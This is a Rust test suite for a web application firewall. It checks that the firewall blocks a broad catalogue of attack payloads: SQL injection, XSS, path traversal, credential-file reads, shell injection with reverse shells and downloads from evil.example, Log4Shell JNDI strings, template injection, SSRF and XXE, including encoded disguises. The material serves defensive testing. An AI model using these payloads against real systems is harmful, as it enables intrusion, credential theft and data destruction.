//! Attacks that must be found, by kind and by rule, and in the disguises that attackers use.

use cedargate_waf::{Place, Subject, Threshold, Verdict};

use crate::sender::{body, encode, engine, everywhere, header, path, plain_headers, query, scope};

/// Asserts that a value is blocked wherever it is sent, by a rule whose id starts so.
fn found(rule: &str, values: &[&str]) {
    let mut missed = Vec::new();
    for value in values {
        for (way, inspected) in everywhere(value) {
            let named = inspected.rules().iter().any(|id| id.starts_with(rule));
            if !named || inspected.verdict(Threshold::default()) != Verdict::Block {
                missed.push(format!("{way}: {value} -> {:?}", inspected.rules()));
            }
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn sql_injection_is_found() {
    found(
        "sqli/",
        &[
            "' OR '1'='1",
            "x' OR 1=1 -- ",
            "1 OR 1=1",
            "1; DROP TABLE items",
            "-1 UNION SELECT username, password FROM users",
            "1 UNION/**/SELECT/**/1,2,3",
            "1' AND SLEEP(5)#",
            "1 AND (SELECT COUNT(*) FROM information_schema.tables) > 0",
            "\" or \"a\"=\"a",
            "admin'--",
            "1' ORDER BY 10--",
            "'; EXEC xp_cmdshell('dir'); --",
            "1; WAITFOR DELAY '0:0:5'--",
            "1 AND extractvalue(1, concat(0x7e, version()))",
            "1' AND '{\"a\":1}'::jsonb <@ '{}'::jsonb",
            "x; SELECT name FROM users",
            "1;declare @x int",
            "\" WAITFOR DELAY \"0:0:5\"",
            "x' AND 1=(SELECT 1 FROM pg_sleep(5))--",
            "1) OR (1=1",
            "1'||(SELECT password FROM users LIMIT 1)||'",
            "' UNION SELECT NULL,NULL INTO OUTFILE '/var/www/x.php'-- ",
        ],
    );
}

#[test]
fn script_in_markup_is_found() {
    found(
        "xss/",
        &[
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js></sCrIpT>",
            "<img src=x onerror=alert(1)>",
            "\"><svg/onload=alert(1)>",
            "' onmouseover='alert(1)",
            "<a href=\"javascript:alert(document.cookie)\">x</a>",
            "javascript:alert(1)",
            "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
            "<body onload=steal()>",
            "<details open ontoggle=alert(1)>",
            "<math><a xlink:href=\"javascript:alert(1)\">x",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
            "\\u003cimg src=x onerror=alert(1)\\u003e",
            "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
            "document/*x*/.cookie",
            "top['alert'](1)",
            "[][(![]+[])[+[]]]",
            "background:url(javascript:alert)",
            "';document.location='//evil.example/'+document.cookie;'",
        ],
    );
}

#[test]
fn traversal_and_system_files_are_found() {
    found(
        "traversal/",
        &[
            "../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "/var/www/../../secret",
            "....//....//etc/passwd",
            "..%2f..%2fetc",
        ],
    );
    found(
        "files/",
        &[
            "/etc/passwd",
            "/etc/./shadow",
            "/etc//passwd%00.png",
            "/proc/self/environ",
            "C:\\boot.ini",
            "/home/me/.ssh/id_rsa",
            "/home/app/.aws/credentials",
            "/e'tc/pas'swd",
        ],
    );
}

#[test]
fn commands_are_found() {
    found(
        "command/",
        &[
            "127.0.0.1; cat /etc/passwd",
            "127.0.0.1;id",
            "x | whoami",
            "x && wget http://evil.example/x.sh",
            "$(curl evil.example)",
            "`id`",
            "a=`cat /etc/passwd`",
            "; ls -la",
            "| nc -e /bin/sh 10.0.0.1 4444",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "x;c'a't /etc/hosts",
            "x;cat${IFS}/etc/hosts",
            "x; w\\get http://evil.example",
            "& ping -c 10 127.0.0.1 &",
            "cmd.exe /c dir",
            "powershell -enc SQBFAFgA==",
            "() { :;}; echo vulnerable",
            "; rm -rf /",
            "$(sleep 10)",
            "1;sleep 10",
            "; python -c 'import os'",
            "|/usr/bin/id",
            "& net user",
            "cat /???/p?ss?d",
            "FOR /F %a IN ('dir') DO echo",
        ],
    );
}

#[test]
fn template_expressions_are_found() {
    found(
        "template/",
        &[
            "{{7*7}}",
            "{{ 7 * '7' }}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{{config.items()}}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "{% import os %}",
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:ldap://evil.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example}",
            "@(1+2)",
            "@{[system 'id']}",
            "<!--#exec cmd=\"id\" -->",
            "%{7*7}",
        ],
    );
}

#[test]
fn code_is_found() {
    found(
        "code/",
        &[
            "<?php system($_GET['c']); ?>",
            "<?= `id` ?>",
            "<? echo 1 ?>",
            "include($_file)",
            "org.apache.commons.collections.functors.InvokerTransformer",
            "php://filter/convert.base64-encode/resource=index",
            "phar://x.phar",
            "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
            "eval($_POST[x])",
            "java.lang.Runtime",
            "class.module.classLoader.resources.context",
            "require('child_process').exec('id')",
            "__import__('os').system('id')",
            "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
            "x.__proto__.y",
        ],
    );
}

#[test]
fn other_kinds_are_found() {
    found(
        "ssrf/",
        &[
            "http://169.254.169.254/latest/meta-data/",
            "file:///etc/hosts",
            "http://2130706433/",
            "http://0x7f000001:8080/",
            "http://0177.0.0.1/x",
            "gopher://127.0.0.1:6379/_INFO",
        ],
    );
    found("ldap/", &["*)(uid=*))(|(uid=*", "admin)(&(password=*))"]);
    found("xml/", &["<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"]);
}

#[test]
fn disguises_change_nothing() {
    let attack = "' OR 1=1 -- ";
    let twice = encode(&encode(attack));
    let thrice = encode(&twice);
    for disguised in [
        encode(attack),
        twice,
        thrice,
        "%27%20oR%20%31%3d%31%20--%20".into(),
        "'+OR+1%3D1+--+".into(),
        "%u0027%20OR%201=1%20--%20".into(),
        "&#39; OR 1=1 -- ".replace('&', "%26").replace('#', "%23"),
        "'/**/OR/**/1=1/**/--".into(),
        // An octet that no text has, and that libinjection takes for the end.
        "%3Cimg%20%FF%20onerror%3Dx%3E".into(),
    ] {
        let inspected = query(&format!("q={disguised}"));
        assert_eq!(inspected.verdict(Threshold::default()), Verdict::Block, "{disguised}");
    }
}

#[test]
fn names_are_judged_like_values() {
    for names in ["%27%20OR%201=1%20--%20", "a%3Cscript%3E=1", "user[$ne]=x", "__proto__=x", "__proto__[admin]=1"] {
        assert_eq!(query(names).verdict(Threshold::default()), Verdict::Block, "{names}");
    }
    for json in [r#"{"' OR 1=1 -- ": 1}"#, r#"{"a": {"$where": "1"}}"#, r#"{"__proto__": {"admin": true}}"#] {
        assert_eq!(body("application/json", json.as_bytes()).verdict(Threshold::default()), Verdict::Block, "{json}");
    }
}

#[test]
fn paths_are_judged() {
    for bad in [
        "/items/%27%20OR%201=1%20--%20",
        "/items/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "/.git/config",
        "/static/.env",
        "/wp-config.php",
        "/items/%252e%252e/%252e%252e/etc/passwd",
        "/a%250d%250aSet-Cookie:x=1",
    ] {
        assert_eq!(path(bad).verdict(Threshold::default()), Verdict::Block, "{bad}");
    }
}

#[test]
fn what_normalising_took_away_is_judged_in_the_raw_target() {
    let inspect = |target| {
        let subject = Subject { method: "GET", target, path: "/b", query: None, headers: &plain_headers(), body: None };
        engine().inspect(&subject, &scope())
    };
    assert_eq!(inspect("/b").findings(), []);
    let place = inspect("/a/../b").findings().first().map(|finding| finding.place.clone());
    assert_eq!(place, Some(Place::Target));
}

#[test]
fn headers_that_services_read_are_judged() {
    for (name, value) in [
        ("user-agent", "sqlmap/1.8#stable (https://sqlmap.org)"),
        ("user-agent", "Mozilla/5.0 (compatible; Nikto/2.5.0)"),
        ("user-agent", "' OR 1=1 -- "),
        ("user-agent", "<script>alert(1)</script>"),
        ("user-agent", "() { :;}; /bin/bash -c 'id'"),
        ("referer", "https://x.example/?q=1'%20OR%201=1%20--%20"),
        ("referer", "<script>alert(1)</script>"),
        ("x-api-version", "${jndi:ldap://evil.example/a}"),
        ("accept", "${${env:X:-j}ndi:ldap://evil.example/a}"),
        ("x-anything", "() { ignored; }; id"),
        ("cookie", "theme=dark; lang=x' OR 1=1 -- "),
        ("cookie", "lang=%3Cscript%3Ealert(1)%3C/script%3E"),
        ("content-encoding", "gzip"),
    ] {
        assert_eq!(header(name, value).verdict(Threshold::default()), Verdict::Block, "{name}: {value}");
    }
}

#[test]
fn xml_is_judged_by_text_and_attribute() {
    for attack in [
        "<a>x' OR 1=1 -- </a>",
        "<a b=\"1 OR 1=1\"/>",
        "<a b='&lt;script&gt;alert(1)&lt;/script&gt;'/>",
        "<a><![CDATA[../../etc/passwd]]></a>",
        "<!DOCTYPE a SYSTEM \"http://evil.example/x.dtd\"><a/>",
    ] {
        assert_eq!(
            body("application/xml", attack.as_bytes()).verdict(Threshold::default()),
            Verdict::Block,
            "{attack}"
        );
    }
}
